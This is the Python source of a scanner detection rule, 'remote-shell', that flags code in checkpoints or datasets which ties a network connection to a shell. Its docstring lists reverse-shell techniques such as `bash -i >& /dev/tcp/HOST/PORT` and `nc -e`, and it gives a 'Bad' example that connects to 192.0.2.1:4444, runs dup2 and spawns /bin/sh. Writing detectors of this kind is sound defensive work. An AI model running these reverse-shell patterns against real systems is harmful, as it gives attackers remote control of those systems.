"""A connection is tied to a shell: whoever listens at the other end types commands here.

The classic is `connect`, then `dup2` of the socket over the standard streams, then a shell. The same
thing without `dup2` is a shell with the socket as its streams, two threads that pump between a socket
and a shell's pipes, `bash -i >& /dev/tcp/HOST/PORT`, or `nc -e`. Nothing that a checkpoint or a dataset
does needs this.

Bad:

    %0 = name socket.socket
    %1 = call %0
    %2 = attr %1, connect
    %3 = const '192.0.2.1'
    %4 = const 4444
    %5 = make tuple, %3, %4
    %6 = call %2, %5
    %7 = name os.dup2
    %8 = attr %1, fileno
    %9 = call %8
    %10 = const 0
    %11 = call %7, %9, %10
    %12 = name pty.spawn
    %13 = const '/bin/sh'
    %14 = call %12, %13

Good:

    %0 = name socket.socket
    %1 = call %0
    %2 = attr %1, connect
    %3 = const 'localhost'
    %4 = const 6006
    %5 = make tuple, %3, %4
    %6 = call %2, %5
"""

import re
from collections.abc import Iterator

from scanner.facts import Argument, Effect, Facts
from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
from scanner.rules._report import finding, together

RULE = Rule(
    id="remote-shell",
    title="A network connection is given a shell",
    severity=Severity.ERROR,
    precision=Precision.VERY_HIGH,
    security_severity=9.5,
    cwe=(506, 912),
    attack=("T1059", "T1071"),
    atlas=("AML.T0011.000", "AML.T0072"),
    specificity=90,
)

REACHES = ("net.connect", "net.listen")
SHELLS = ("process.spawn", "tty.spawn")
INPUTS = frozenset({"sys.stdin", "sys.__stdin__"})
# What runs the lines that come in there.
PROMPTS = frozenset({
    "code.interact", "code.InteractiveConsole.interact", "code.InteractiveConsole", "pdb.set_trace",
    "builtins.breakpoint", "IPython.embed",
})  # fmt: skip
TELLTALE = frozenset({"dev-tcp"})

_BACK = re.compile(r"^'(?:.* )?-[a-zA-Z]*R")  # ssh: who connects there comes out here


def check(facts: Facts) -> Iterator[Finding]:
    """A connection and a shell on one path: tied by descriptors, a terminal, or one command."""
    effects = list(facts.running())
    reach = [e for e in effects if e.kind in REACHES]
    shells = [e for e in effects if e.kind in SHELLS or e.callee == "shell.sh"]
    ties = [e for e in effects if e.kind in {"fd.redirect", "tty.spawn"}]
    if reach and shells and ties:
        involved = {*reach, *ties, *shells}
        yield _report(shells[-1], [e for e in effects if e in involved])
        return
    replaced = [e for e in effects if e.callee in INPUTS and any(map(_is_from_one, e.arguments))]
    asked = [e for e in effects if e.callee in PROMPTS]
    if replaced and asked:
        yield _report(asked[-1], [*reach, *replaced, *asked])
        return
    for effect in effects:
        if effect.callee == "shell.ssh" and any(_BACK.search(a.text) for a in effect.arguments):
            yield finding(RULE, effect, "lets a remote host in through a tunnel", Behaviour.REMOTE_SHELL)
            return
        piped = effect.kind in SHELLS and any(map(_is_connection, effect.arguments))
        if (piped and reach) or (effect.kind in SHELLS and effect.indicators & TELLTALE):
            yield _report(effect, [*(reach if piped else ()), effect])
            return
    pumped = [f.effect for f in facts.flowing({"net.recv"}, {"process.input"})]
    answers = [f.effect for f in facts.flowing({"process.output"}, {"net.send"})]
    if pumped and answers and reach and shells:
        yield _report(shells[-1], [*reach, *shells, *answers, *pumped])


def _is_connection(argument: Argument) -> bool:
    """Whether the argument is the connection itself, and not what was received from it."""
    return "socket" in argument.text and all(s.kind != "net.recv" for s in argument.sources)


def _is_from_one(argument: Argument) -> bool:
    return "socket" in argument.text or any(s.kind == "net.recv" for s in argument.sources)


def _report(shell: Effect, effects: list[Effect]) -> Finding:
    return finding(
        RULE, shell, "gives a shell to a remote host", Behaviour.REMOTE_SHELL, steps=together(effects)
    )
